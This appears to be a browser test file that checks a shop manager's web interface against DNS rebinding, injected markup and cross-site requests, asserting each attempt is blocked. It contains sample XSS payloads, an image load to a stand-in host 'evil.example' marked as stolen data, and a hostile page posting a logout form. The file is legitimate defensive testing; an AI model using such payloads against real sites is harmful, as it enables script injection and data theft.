"""Other people's pages in the manager's browser: they can read nothing, and move nothing."""

from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path

import pytest
from aiohttp import web
from playwright.async_api import expect

from tests.browser.test_manager import CODE, one_time_code, pair
from tests.browser.visitor import EVIL_HOST, Visitor
from tests.support.generation import configure
from tests.support.page import served
from tests.support.shop import ShopUnderTest, until

# Ways in which a text could become markup that does something.
INJECTIONS = """
() => {
  const ways = [
    () => { document.body.innerHTML = "<img src=x onerror='window.ran = 1'>"; },
    () => { document.body.setAttribute("onclick", "window.ran = 2"); document.body.click(); },
    () => { document.head.append(Object.assign(document.createElement("script"), { textContent: "window.ran = 3" })); },
    () => { document.head.append(Object.assign(document.createElement("style"), { textContent: "body { top: 0 }" })); },
    () => { document.body.append(Object.assign(new Image(), { src: "http://evil.example/?stolen" })); },
    () => { document.body.append(Object.assign(document.createElement("iframe"), { src: "http://evil.example/" })); },
  ];
  for (const way of ways) try { way(); } catch { /* refused */ }
  return ways.length;
}
"""

POSTS = """
async (box) => {
  const body = JSON.stringify({ language: "en" });
  const kinds = [
    { body, mode: "no-cors" },
    { body, mode: "no-cors", credentials: "include" },
    { body, headers: { "Content-Type": "application/json", "X-CSRF-Token": "x" }, credentials: "include" },
  ];
  const said = [];
  for (const kind of kinds) {
    said.push(await fetch(`${box}api/actions/language`, { method: "POST", ...kind })
      .then((answer) => answer.type, (error) => error.name));
  }
  said.push(await fetch(`${box}api/status`).then((answer) => answer.status, (error) => error.name));
  return said;
}
"""


@asynccontextmanager
async def strange_page(box: str) -> AsyncIterator[str]:
    """Serve a page of another origin that posts a form to the box; return its address."""

    async def page(_: web.Request) -> web.Response:
        form = f'<form method="post" action="{box}api/logout"><button>a prize</button></form>'
        return web.Response(text=form, content_type="text/html")

    app = web.Application()
    app.router.add_get("/", page)
    runner = web.AppRunner(app)
    await runner.setup()
    site = web.TCPSite(runner, "127.0.0.1", 0)
    await site.start()
    try:
        yield f"http://127.0.0.1:{runner.addresses[0][1]}/"
    finally:
        await runner.cleanup()


async def test_a_name_that_turns_out_to_be_this_box(shop: ShopUnderTest, visitor: Visitor) -> None:
    """DNS rebinding: the stranger's name suddenly leads here."""
    visitor.expects("status of 421")
    _, url = await shop.agent()
    for path in ("", "api/status", "api/events", "help"):
        answer = await visitor.page.goto(url.replace("127.0.0.1", EVIL_HOST) + path)
        assert answer
        assert answer.status == 421, path


async def test_markup_that_got_into_the_page_does_nothing(
    tmp_path: Path, visitor: Visitor, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A receipt's text is text. Should it ever become markup, the browser runs none of it, and says so."""
    monkeypatch.delenv("RUNTIME_DIRECTORY", raising=False)
    async with served(configure(tmp_path)) as box:
        await visitor.open(box.url)
        tried = await visitor.page.evaluate(INJECTIONS)
        blocked = "has been blocked"
        await until(lambda: sum(blocked in one for one in visitor.complaints()) >= tried, visitor.complaints)
        assert await visitor.page.evaluate("window.ran === undefined")
        visitor.expects(blocked, "csp")
        await visitor.page.goto("about:blank")


async def test_posts_from_another_site(shop: ShopUnderTest, visitor: Visitor) -> None:
    _, url = await shop.agent()
    page = visitor.page
    await visitor.open(url)
    one_time = await one_time_code(shop)
    await page.click("#sign-in")
    await pair(page, one_time, CODE)
    await expect(page.locator("#manager")).to_be_visible()
    visitor.expects("CORS policy", "status of 403", "net::ERR_FAILED", "status of 415")
    async with strange_page(url) as elsewhere:
        other = await page.context.new_page()
        await other.goto(elsewhere)
        assert await other.evaluate(POSTS, url) == ["TypeError"] * 4
        async with other.expect_navigation() as leaving:
            await other.click("button")
        answer = await leaving.value
        assert answer.status == 403
        await other.close()
    await page.reload()
    await expect(page.locator("#manager")).to_be_visible()
    await expect(page.locator("[data-action=language][data-to=zh]")).to_have_attribute("aria-pressed", "true")
    await page.click("#audit summary")
    assert await page.locator("#audit li").count() == 2, "the one-time code and the pairing, nothing else"
